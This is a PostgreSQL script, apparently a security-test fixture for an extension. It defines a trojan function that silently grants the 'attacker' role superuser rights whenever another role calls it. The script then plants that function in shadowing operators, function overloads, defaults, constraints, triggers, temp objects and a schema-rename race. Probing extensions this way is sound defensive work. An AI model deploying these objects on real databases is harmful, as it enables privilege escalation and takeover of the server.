-- hostile_arms.sql: what an attacker's objects call, and how to plant many of them.
GRANT USAGE ON SCHEMA own, src, tgt TO PUBLIC;
CREATE SEQUENCE own.loot;
GRANT USAGE, SELECT ON own.loot TO PUBLIC;
-- Sequences are not rolled back, and it does not fail where the caller has no rights.
CREATE FUNCTION own.strike() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	IF current_user <> 'attacker' THEN
		PERFORM pg_catalog.nextval('own.loot');
		ALTER ROLE attacker SUPERUSER;
	END IF;
	RETURN true;
EXCEPTION WHEN OTHERS THEN
	RETURN true;
END $$;

-- The tables that views are made of, in a schema.
CREATE FUNCTION own.sources(schema text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	EXECUTE format('CREATE TABLE %1$I.recovery_case AS SELECT 1 AS case_id, 1 AS customer_id,
		now() - interval ''50 days'' AS opened_at, now() - interval ''49 days'' AS resolved_at, 1 AS contacts,
		''chat''::text AS channel;
		CREATE TABLE %1$I.survey_response AS SELECT 1 AS response_id, 1 AS customer_id, 1 AS case_id,
			now() - interval ''48 days'' AS responded_at, 5 AS csat, 9 AS nps, 3 AS speed, ''good''::text AS comment;
		CREATE TABLE %1$I.customer AS SELECT 1 AS customer_id, now() - interval ''400 days'' AS joined_at,
			NULL::timestamptz AS left_at;
		CREATE TABLE %1$I.purchase AS SELECT 1 AS customer_id, now() - interval ''40 days'' AS purchased_at,
			9.5 AS amount;
		CREATE TABLE %1$I.case_event AS SELECT 1 AS case_id, now() - interval ''50 days'' AS at,
			''open''::text AS status;
		CREATE TABLE %1$I.survey_invitation AS SELECT 1 AS invitation_id, now() - interval ''49 days'' AS sent_at,
			1 AS customer_id, 1 AS case_id;
		CREATE TABLE %1$I.follow_up AS SELECT 1 AS response_id, now() - interval ''47 days'' AS contacted_at', schema);
END $$;

-- Operators of a name on all pairs of types that pg_catalog has none for.
CREATE FUNCTION own.operators(home text, names text[], types text[]) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	l text;
	r text;
	o text;
	n int := 0;
BEGIN
	FOREACH l IN ARRAY types LOOP
		FOREACH r IN ARRAY types LOOP
			n := n + 1;
			EXECUTE format('CREATE FUNCTION own.says_%s(%s, %s) RETURNS boolean LANGUAGE sql
				AS ''SELECT own.strike()''', n, l, r);
			EXECUTE format('CREATE FUNCTION own.gives_%s(%s, %s) RETURNS %2$s LANGUAGE sql
				AS ''SELECT own.strike(); SELECT $1''', n, l, r);
			FOREACH o IN ARRAY names LOOP
				CONTINUE WHEN EXISTS (SELECT FROM pg_operator p WHERE p.oprname = o AND p.oprleft = l::regtype
					AND p.oprright = r::regtype AND p.oprnamespace = 'pg_catalog'::regnamespace);
				EXECUTE format('CREATE OPERATOR %I.%s (leftarg = %s, rightarg = %s, function = own.%s_%s)', home, o, l,
					r, CASE WHEN o ~ '^[-+*/|]+$' THEN 'gives' ELSE 'says' END, n);
			END LOOP;
		END LOOP;
	END LOOP;
END $$;

-- Functions of these names with one to six arguments of one type each, where pg_catalog has
-- none of exactly that signature.
CREATE FUNCTION own.functions(home text, names text[], types text[], most int) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	f text;
	t text;
	arguments text;
BEGIN
	FOREACH f IN ARRAY names LOOP
		FOREACH t IN ARRAY types LOOP
			FOR n IN 1 .. most LOOP
				arguments := array_to_string(array_fill(t, ARRAY[n]), ', ');
				BEGIN
					EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE sql
						AS ''SELECT own.strike(); SELECT $1''', home, f, arguments, t);
				EXCEPTION WHEN duplicate_function THEN
					NULL;		-- the extension's own
				END;
			END LOOP;
		END LOOP;
	END LOOP;
END $$;

CREATE FUNCTION own.all_operators(home text) RETURNS void LANGUAGE sql AS $$
SELECT own.operators(home, '{=,<>,<,<=,>,>=,||,+,-,*,/,<@,&&,~,?,->>}', '{text,text[],name,"\"char\"",oid,regclass,
	regtype,integer,bigint,"double precision",numeric,date,"timestamp with time zone",interval,jsonb}');
$$;
CREATE FUNCTION own.all_functions(home text) RETURNS void LANGUAGE sql AS $$
SELECT own.functions(home, '{format,concat,concat_ws,coalesce,array_position,array_replace,array_prepend,
	array_to_string,unnest,cardinality,jsonb_build_object,to_jsonb,jsonb_object_keys,quote_literal,quote_ident,
	set_config,to_regclass,isfinite,replace,round,power,sqrt,abs,extract,date_part,now,string_to_array,string_agg,
	array_agg,count,min,max,sum,avg,bool_or,sign,generate_series,format_type,obj_description}', '{text,text[],integer,
	bigint,numeric,"double precision",date,"timestamp with time zone",jsonb,name}', 4);
$$;

-- Tables of the names of a rollup's, which strike.
CREATE FUNCTION own.strikes() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM own.strike(); RETURN NEW; END';
CREATE FUNCTION own.store_tables(home text, names text[]) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	n text;
BEGIN
	FOREACH n IN ARRAY names LOOP
		EXECUTE format('CREATE TABLE %1$I.%2$I (LIKE kept_store.%2$I);
			ALTER TABLE %1$I.%2$I ADD strikes int DEFAULT own.strike()::int CHECK (own.strike());
			CREATE TRIGGER strikes BEFORE INSERT OR UPDATE OR DELETE ON %1$I.%2$I FOR EACH ROW
				EXECUTE FUNCTION own.strikes();
			CREATE TRIGGER strikes_too AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON %1$I.%2$I FOR EACH STATEMENT
				EXECUTE FUNCTION own.strikes(); GRANT ALL ON %1$I.%2$I TO PUBLIC', home, n);
	END LOOP;
END $$;

-- The schemas src and src_other change places, there and back; the next call completes one
-- that failed half way.  It waits now and then, so that making views can succeed at all.
CREATE PROCEDURE own.swap() LANGUAGE plpgsql AS $$
BEGIN
	FOR i IN 1 .. 10 LOOP
		IF pg_catalog.to_regnamespace('src_away') IS NULL THEN
			ALTER SCHEMA src RENAME TO src_away;
			ALTER SCHEMA src_other RENAME TO src;
			COMMIT;
			PERFORM pg_catalog.pg_sleep(0.01 * pg_catalog.random());
		END IF;
		ALTER SCHEMA src RENAME TO src_other;
		ALTER SCHEMA src_away RENAME TO src;
		COMMIT;
		PERFORM pg_catalog.pg_sleep(0.1 * pg_catalog.random());
	END LOOP;
END $$;

-- Relations and types of these names in pg_temp: where pg_catalog has such a one, of its form.
CREATE FUNCTION own.temp_tables(names text[]) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	n text;
BEGIN
	FOREACH n IN ARRAY names LOOP
		EXECUTE format('CREATE TEMP TABLE %1$I (kpi text DEFAULT own.strike()::text, x int CHECK (own.strike()));
			CREATE TRIGGER strikes BEFORE INSERT OR UPDATE ON %1$I FOR EACH ROW EXECUTE FUNCTION pg_temp.strikes();
			GRANT ALL ON %1$I TO PUBLIC', n);
	END LOOP;
END $$;
CREATE FUNCTION own.temp_views(names text[]) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	n text;
BEGIN
	FOREACH n IN ARRAY names LOOP
		EXECUTE format('CREATE TEMP VIEW %1$I AS SELECT t.* FROM %2$s AS t WHERE own.strike();
			GRANT ALL ON %1$I TO PUBLIC', n, coalesce(to_regclass('pg_catalog.' || n)::text, '(SELECT 1 AS case_id,
				''crs'' AS kpi)'));
	END LOOP;
END $$;
CREATE FUNCTION own.temp_domains(names text[]) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	n text;
BEGIN
	FOREACH n IN ARRAY names LOOP
		EXECUTE format('CREATE DOMAIN pg_temp.%I AS %s CHECK (own.strike())', n,
			coalesce(to_regtype('pg_catalog.' || n)::text, 'pg_catalog.text'));
	END LOOP;
END $$;
